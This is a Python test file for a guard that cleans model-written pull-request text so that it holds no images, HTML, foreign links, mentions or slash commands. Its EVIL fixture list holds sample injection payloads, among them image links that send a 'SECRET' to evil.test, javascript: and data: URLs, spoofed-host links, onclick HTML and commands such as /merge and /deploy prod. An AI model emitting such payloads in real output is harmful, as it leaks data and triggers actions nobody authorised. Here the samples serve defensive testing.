"""Text going out does nothing: whatever a model writes, a CommonMark parser finds no image, no
HTML, no foreign link, and no raw line is a command."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from harness.core.words import Catalogue
from harness.guard.lint import lint
from harness.guard.text import outgoing, plain

PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
HOSTS = ("docs.example.org",)


def inline(text: str) -> list[Token]:
    return [c for t in PARSER.parse(text) for c in (t.children or [])]


def outside_code(text: str) -> str:
    return " ".join(t.content for t in inline(text) if t.type == "text")


def powerless(text: str) -> None:
    tokens = [*PARSER.parse(text), *inline(text)]
    assert not [t for t in tokens if t.type in ("image", "html_inline", "html_block")], text
    for token in inline(text):
        if token.type == "link_open":
            address = str(token.attrs["href"])
            own = not re.match(r"^[a-z]+:|//", address)
            assert own or address.startswith("https://docs.example.org"), text
    shown = outside_code(text)
    assert not re.search(r"(?<![\w/.])@[A-Za-z0-9]", shown), text
    assert not re.search(
        r"(?i)(https?|ftp|data|javascript):", shown.replace("https://docs.example.org", "")
    )
    assert not re.search(r"(?m)^/", text), text


EVIL = [
    "![x](https://evil.test/?d=SECRET)",
    "![x][r]\n\n[r]: https://evil.test/p.png",
    "[click](https://evil.test/?d=1)",
    "[a](//evil.test)",
    "[a](\\\\evil.test)",
    "[a](javascript:alert(1))",
    "[a](data:text/html,x)",
    "[a](https://docs.example.org@evil.test/)",
    "[a](https://docs.example.org.evil.test/)",
    "[a](http://docs.example.org/)",
    "[a](https://docs.example.org:8443/)",
    "<https://evil.test>",
    "https://evil.test/x and www.evil.test",
    "<img src=https://evil.test/x>",
    "a <b onclick=x>b</b> <!-- hidden -->",
    "<details><summary>x</summary>y</details>",
    "@octocat and @org/team, (@x)",
    "**@bold** _@em_ [@l](a.md) ~~@s~~",
    "/merge",
    "text\n/approve\n  /rebase",
    "```\n/deploy prod\n```",
    "- /close\n- @a",
    "> /close",
    "| @a | b |\n|---|---|\n| /x | ![i](http://e) |",
    "mail me: a@evil.test",
    "\\![x](http://evil.test) \\@octocat \\/merge",
    "&#64;octocat &lt;img src=x&gt;",
    "\u200b/merge\n\u202e@x",
    "&#47;merge",
    "`unclosed @a ![x](http://e)",
    "# @title /x\n\n1. /one\n\n    /code",
]


@pytest.mark.parametrize("text", EVIL)
def test_nothing_that_goes_out_has_power(text: str) -> None:
    written = outgoing(text, 7, HOSTS)
    powerless(written)
    powerless(outgoing(written, 7, HOSTS))


def test_only_the_own_issue_is_closed() -> None:
    written = outgoing("Fixes #1, fixes #7, closes: #8, resolves org/x#9, **fixed** #5, see #4", 7)
    shown = outside_code(written)
    closed = re.findall(r"(?i)(?:fix\w*|close\w*|resolve\w*):?\s+(?:[\w/]+)?#(\d+)", shown)
    assert closed == ["7"]
    assert "#4" in shown
    assert "`#1`" in written


@pytest.mark.parametrize(
    "text",
    [
        "Plain words, **bold**, *em*, ~~gone~~ and `code`.\n",
        "## What\n\n- one\n- two\n  - deep\n\n1. first\n2. second\n",
        "| a | b |\n| --- | --- |\n| 1 | `x` |\n",
        "```python\nx = [1]\n```\n",
        "- [x] done\n- [ ] open\n",
        "Closes #7\n",
        "> said\n>\n> twice\n",
        "[the guide](docs/guide.md) and [more](https://docs.example.org/a)\n",
        "한국어 문장입니다.\n",
        "a\nb\n\n---\n\nc\n",
    ],
)
def test_honest_text_keeps_its_form(text: str) -> None:
    assert outgoing(text, 7, HOSTS) == text


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(st.text(alphabet=st.sampled_from(list("ab @/#7\n`*_[]()!<>&|~-+.1:\\x\t\"'=")), max_size=60))
def test_any_text_comes_out_powerless(text: str) -> None:
    powerless(outgoing(text, 7, HOSTS))


def test_a_huge_text_is_cut() -> None:
    written = outgoing("word\n\n" * 15_000, 7)
    assert len(written) < 65_000
    powerless(written)


def test_plain_lines_ping_nobody_and_close_only_their_own() -> None:
    assert plain("Fix #7: closes #7, fixes #8 for @ann\n/merge", 7) == (
        "Fix #7: closes #7, fixes issue 8 for (at)ann\n /merge"
    )


BODY = "## What\n\nIt works.\n\nCloses #7\n\n## Evidence\n\n| a |\n| --- |\n| b |\n"


@pytest.mark.parametrize(
    ("title", "body", "key"),
    [
        ("Mend it", BODY, None),
        ("", BODY, "lint_no_title"),
        ("x" * 73, BODY, "lint_long_title"),
        ("a\u200bb", BODY, "lint_odd_title"),
        ("a", BODY + "x" * 60_000, "lint_long_body"),
        ("a", BODY.replace("## What", "## Which"), "lint_no_section"),
        ("a", BODY.replace("It works.\n\nCloses #7\n\n", ""), "lint_no_section"),
        ("a", BODY.replace("| a |\n| --- |\n| b |", "All green!"), "lint_no_evidence"),
        ("a", BODY.replace("Closes #7", "See #7"), "lint_not_closing"),
        ("a", BODY.replace("works.", "works. Fixes #8"), "lint_closes_other"),
        ("a", BODY.replace("works.", "works. ![x](y)"), "lint_html"),
    ],
)
def test_the_form_of_a_pull_request(title: str, body: str, key: str | None) -> None:
    found = lint(title, body, 7, ("What", "Evidence"), "Evidence")
    assert [f.say.key for f in found][:1] == ([f"guard.{key}"] if key else [])
    for finding in found:
        assert Catalogue("ko")(finding.say.key, **finding.say.facts)
